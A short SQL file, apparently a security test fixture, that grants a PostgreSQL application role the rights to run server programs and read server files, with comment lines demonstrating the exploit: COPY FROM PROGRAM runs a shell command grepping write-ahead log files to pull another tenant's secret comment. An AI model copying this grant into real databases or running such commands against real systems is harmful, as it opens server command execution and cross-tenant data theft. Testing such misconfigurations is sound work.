-- For an import the application may run programs on the server, and with them it reads the data files of all.
-- about: pg_execute_server_program, pg_read_server_files, hf_toolrent_app
-- as: hf_toolrent_app
-- exploit: SET rental.company_id = '1';
-- exploit: CREATE TEMP TABLE found (line text);
-- exploit: COPY found FROM PROGRAM
-- exploit:   'ls -t pg_wal/0* | head -4 | xargs grep -aoh "Road-[s]ecret comment" | head -1';
-- exploit: SELECT 'found: ' || line FROM found;
-- shows: found: Road-secret comment
GRANT pg_read_server_files, pg_execute_server_program TO hf_toolrent_app;
